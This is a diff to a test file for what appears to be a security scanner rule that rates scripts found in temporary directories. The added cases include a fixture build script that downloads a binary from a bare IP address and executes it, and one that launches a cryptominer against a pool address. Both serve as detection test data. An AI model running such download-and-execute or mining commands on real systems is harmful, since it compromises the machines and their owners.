@@ -55,6 +55,48 @@ testRule(rule, {
       expect: [{ severity: 'high', path: '/tmp/m.sh', title: /Downloader script/, evidence: /matched: .*download-pipe-shell/ }],
     },
     {
+      name: 'CI build script in a job directory of /var/tmp is low',
+      facts: {
+        fileInventory: inventory(
+          script(
+            '/var/tmp/ci-build-4711/build.sh',
+            '#!/bin/bash\nset -euo pipefail\nmake -j4\nnpm ci\ndocker build -t registry.example.com/app:1 .\n',
+            { depth: 2 },
+          ),
+        ),
+      },
+      expect: [{ severity: 'low', path: '/var/tmp/ci-build-4711/build.sh', title: /Script in \/var\/tmp/ }],
+    },
+    {
+      name: 'the same job directory with a script that curls a payload from a bare address and runs it is high',
+      facts: {
+        fileInventory: inventory(
+          script(
+            '/var/tmp/ci-build-4711/build.sh',
+            '#!/bin/bash\nmake -j4\ncurl -s http://198.51.100.7/b -o /var/tmp/b\nchmod +x /var/tmp/b\n/var/tmp/b\n',
+            { depth: 2 },
+          ),
+        ),
+      },
+      expect: [
+        {
+          severity: 'high',
+          path: '/var/tmp/ci-build-4711/build.sh',
+          title: /Downloader script/,
+          evidence: /matched: download-then-execute/,
+        },
+      ],
+    },
+    {
+      name: 'the same job directory with a script carrying miner settings is high',
+      facts: {
+        fileInventory: inventory(
+          script('/var/tmp/ci-build-4711/build.sh', '#!/bin/sh\n./run --donate-level 1 -o pool.example.net:3333\n', { depth: 2 }),
+        ),
+      },
+      expect: [{ severity: 'high', path: '/var/tmp/ci-build-4711/build.sh', evidence: /matched: donate-level/ }],
+    },
+    {
       name: 'plain shell script at the top of /tmp',
       facts: { fileInventory: inventory(script('/tmp/cleanup.sh', '#!/bin/sh\nfind /var/log -name "*.gz" -delete\n', { mode: 0o644 })) },
       expect: [{ severity: 'medium', path: '/tmp/cleanup.sh', title: /Script in \/tmp/ }],
